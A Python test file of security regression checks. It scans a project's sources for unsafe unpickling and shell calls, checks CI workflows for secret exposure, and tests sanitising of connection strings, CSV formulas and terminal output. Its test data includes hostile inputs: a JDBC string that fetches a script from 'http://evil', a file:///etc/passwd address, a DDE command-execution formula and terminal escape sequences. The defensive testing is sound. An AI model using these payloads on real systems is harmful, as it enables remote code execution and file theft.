"""Cases of the attack list about code that nobody meant to run: objects, shells, workflows, pages."""

import ast
import functools
import re
from pathlib import Path

import polars as pl
import pytest

from thrive.cli.safe import printable
from thrive.data.spreadsheet import without_formulas
from thrive.domain.errors import NotFound, UsageError
from thrive.flows.ci_files import write_ci_files
from thrive.store.sources import sql

SOURCES = Path(__file__).parents[2] / "src/thrive"
UNPICKLERS = {
    "packaging/formats/pickle.py",  # a package allowed by name and digest, where it is loaded
    "training/artifacts.py",  # what a step of one's own run returned, in the process of the run
    "training/driver.py",  # the same bytes, at once, to know that they can be read again
    "engines/failures.py",  # the error of a step of one's own run
}


@functools.cache
def calls():
    """Return each call in our sources: the file, what is called, and the names of its arguments."""
    found = []
    for file in sorted(SOURCES.rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.Call):
                named = [each.arg for each in node.keywords]
                found.append((str(file.relative_to(SOURCES)), written(node.func), named))
    return found


def written(node):
    """Return a dotted name as it is written, its last part of anything else."""
    if isinstance(node, ast.Attribute):
        return f"{written(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


def test_cases_21_to_23_nothing_but_the_loader_restores_an_object():
    readers = ("pickle.load", "pickle.loads", "Unpickler", "joblib.load", "torch.load", "marshal.")
    found = {file for file, name, _ in calls() if any(reader in name for reader in readers)}
    assert not {file for file in found if file.startswith(("server/", "ui/", "store/", "flows/"))}
    assert found == UNPICKLERS
    for file, name, named in calls():
        assert not (name.endswith("np.load") and "allow_pickle" in named), file


def test_case_30_no_word_reaches_a_shell():
    for file, name, named in calls():
        assert name not in {"os.system", "os.popen", "subprocess.getoutput"}, file
        assert "shell" not in named, f"{file}: {name}"


def test_case_31_a_workflow_runs_forks_without_secrets(tmp_path):
    (tmp_path / "thrive.toml").write_text('contract = 1\n[project]\nname = "p"\n')
    text = "".join((tmp_path / name).read_text() for name in write_ci_files(tmp_path))
    assert "pull_request_target" not in text
    assert "secrets." not in text
    assert "contents: read" in text


@pytest.mark.parametrize(
    "name",
    [
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "mysql://host/db?allowLoadLocalInfile=true",
        "sqlite:////etc/nothing",
        "postgresql://user@127.0.0.1:1/db",
        "file:///etc/passwd",
    ],
)
def test_case_32_a_query_names_a_connection_and_no_address(tmp_path, name):
    """An address comes from the settings of the machine alone; a word in a contract is a name."""
    with pytest.raises(NotFound, match="no connection"):
        sql.address_of(name, {"lake": "sqlite:///lake.db"}, tmp_path)
    with pytest.raises((NotFound, UsageError)):
        sql.address_of("set", {"set": name.replace("postgresql", "oracle")}, tmp_path)


def test_case_54_no_cell_becomes_a_formula():
    """Where CSV is written, no text begins as a formula does; numbers and other text stay."""
    for file in SOURCES.rglob("*.py"):
        text = file.read_text()
        if re.search(r"write_csv|sink_csv|csv\.writer", text):
            assert "without_formulas" in text, file
    evil = ["=cmd|' /C calc'!A0", "+1", "-1", "@sum", "\ta", "\rb", "a=b", "", None]
    rows = pl.LazyFrame({"text": evil, "=name": range(9), "less": [-1.5] * 9})
    kept = without_formulas(rows.with_columns(pl.col("text").cast(pl.Categorical).alias("kind")))
    found = kept.collect()
    assert found.columns == ["text", "'=name", "less", "kind"]
    for name in ("text", "kind"):
        assert found[name].to_list() == [f"'{each}" for each in evil[:6]] + evil[6:]
    assert found["less"].to_list() == [-1.5] * 9


@pytest.mark.parametrize(
    "evil", ["\x1b[2J", "\x1b]0;owned\x07", "a\rb", "\u202egpj.exe", "\x9b31m"]
)
def test_case_55_what_the_command_line_prints_steers_no_terminal(evil):
    shown = printable(evil, lines=True)
    assert not set(shown) & {"\x1b", "\x07", "\r", "\u202e", "\x9b"}


def test_case_56_nothing_shows_itself_as_html_in_a_notebook():
    for file in SOURCES.rglob("*.py"):
        assert "_repr_html_" not in file.read_text(), file
